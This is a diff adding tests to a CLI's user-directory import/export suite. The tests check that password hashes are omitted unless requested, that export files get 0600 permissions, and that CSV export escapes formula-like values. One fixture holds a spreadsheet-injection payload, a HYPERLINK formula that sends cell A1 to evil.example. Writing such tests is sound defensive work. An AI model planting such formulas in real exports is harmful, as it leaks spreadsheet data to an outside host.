@@ -1,7 +1,7 @@
 /** roster generate | import | export | serve --seed --export-on-exit, run as child processes like a user runs them. */
 import assert from 'node:assert/strict';
 import { execFile, spawn } from 'node:child_process';
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
@@ -78,6 +78,35 @@ for (const engine of engines) {
       assert.equal(second.stdout, await readFile(first, 'utf8'));
     });
 
+    it('leaves password hashes out unless --with-secrets, writes files 0600, and round-trips either way', async () => {
+      const set = await roster(['user', 'password', '5', '--password', 'correct horse battery', '--db', a.location]);
+      assert.equal(set.code, 0, set.stderr);
+      const plain = join(dir, `${engine}-plain.json`);
+      const full = join(dir, `${engine}-full.json`);
+      const csv = join(dir, `${engine}-csv`);
+      assert.equal((await roster(['export', '--db', a.location, '--out', plain])).code, 0);
+      assert.equal((await roster(['export', '--db', a.location, '--out', full, '--with-secrets'])).code, 0);
+      assert.equal((await roster(['export', '--db', a.location, '--format', 'csv', '--out', csv])).code, 0);
+      for (const file of [plain, full, join(csv, 'users.csv'), join(csv, 'groups.csv')]) assert.equal((await stat(file)).mode & 0o777, 0o600, file);
+      const plainText = await readFile(plain, 'utf8');
+      assert.equal(/password_hash|scrypt\$/.test(plainText), false);
+      assert.equal(/PASSWORD_HASH|scrypt\$/.test(await readFile(join(csv, 'users.csv'), 'utf8')), false);
+      assert.equal(/scrypt\$/.test((await roster(['export', '--db', a.location])).stdout), false, 'stdout too');
+      const hash = JSON.parse(await readFile(full, 'utf8')).users[4].password_hash;
+      assert.match(hash, /^scrypt\$/);
+      // with secrets, the round trip carries the password
+      assert.equal((await roster(['import', full, '--replace', '--db', b.location])).code, 0);
+      assert.equal((await roster(['export', '--db', b.location, '--with-secrets'])).stdout, await readFile(full, 'utf8'));
+      // without, --merge keeps stored passwords and --replace makes the directory exactly the file
+      assert.equal((await roster(['import', plain, '--merge', '--db', b.location])).code, 0);
+      assert.equal((await roster(['export', '--db', b.location, '--with-secrets'])).stdout, await readFile(full, 'utf8'));
+      assert.equal((await roster(['import', plain, '--replace', '--db', b.location])).code, 0);
+      assert.equal((await roster(['export', '--db', b.location, '--with-secrets'])).stdout.includes(hash), false);
+      assert.equal((await roster(['export', '--db', b.location])).stdout, plainText);
+      // back to what the next tests expect
+      assert.equal((await roster(['import', join(dir, `${engine}-1.json`), '--replace', '--db', b.location])).code, 0);
+    });
+
     it('reports every problem with its line and imports nothing', async () => {
       const lines = (await readFile(company, 'utf8')).split('\n');
       const at = (needle: string) => lines.findIndex((l) => l.includes(needle));
@@ -117,6 +146,26 @@ describe('roster import / export CSV [sqlite]', () => {
     const back = await roster(args);
     assert.equal(back.code, 0, back.stderr);
     assert.equal((await roster(['export', '--db', db2])).stdout, await readFile(company, 'utf8'));
+  });
+
+  it('writes names that look like formulas as text and imports them back unchanged', async () => {
+    const doc = JSON.parse(await readFile(company, 'utf8'));
+    doc.groups[0].name = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
+    Object.assign(doc.users[4], { name: '@SUM(A1)', last_name: "'=already", work_position: '-2+3' });
+    doc.departments[3].name = '+Sales';
+    const source = join(dir, 'formulas.json');
+    await writeFile(source, JSON.stringify(doc));
+    const db = join(dir, 'formulas-a.db');
+    assert.equal((await roster(['import', source, '--db', db])).code, 0);
+    const csv = join(dir, 'formulas');
+    assert.equal((await roster(['export', '--format', 'csv', '--out', csv, '--db', db])).code, 0);
+    const text = (await Promise.all(['users', 'departments', 'groups'].map((k) => readFile(join(csv, `${k}.csv`), 'utf8')))).join('');
+    for (const raw of ['"\'=HYPERLINK(""http', "'@SUM(A1)", "''=already", "'-2+3", "'+Sales"]) assert.ok(text.includes(`,${raw}`), raw);
+    assert.doesNotMatch(text, /(^|,)"?[=+\-@]/m, 'no cell starts a formula');
+    const db2 = join(dir, 'formulas-b.db');
+    const back = await roster(['import', join(csv, 'users.csv'), '--departments', join(csv, 'departments.csv'), '--groups', join(csv, 'groups.csv'), '--db', db2]);
+    assert.equal(back.code, 0, back.stderr);
+    assert.equal((await roster(['export', '--db', db2])).stdout, (await roster(['export', '--db', db])).stdout);
   });
 
   it('merges a spreadsheet of a few columns by ID, and names line and column of problems', async () => {
@@ -164,6 +213,7 @@ describe('roster serve --seed --export-on-exit [sqlite]', () => {
     child.kill('SIGTERM');
     assert.deepEqual(await exited, [0, null], output);
     assert.equal(await readFile(out, 'utf8'), await readFile(company, 'utf8'));
+    assert.equal((await stat(out)).mode & 0o777, 0o600);
   });
 
   it('refuses to start with a seed that does not validate, listing the problems', async () => {
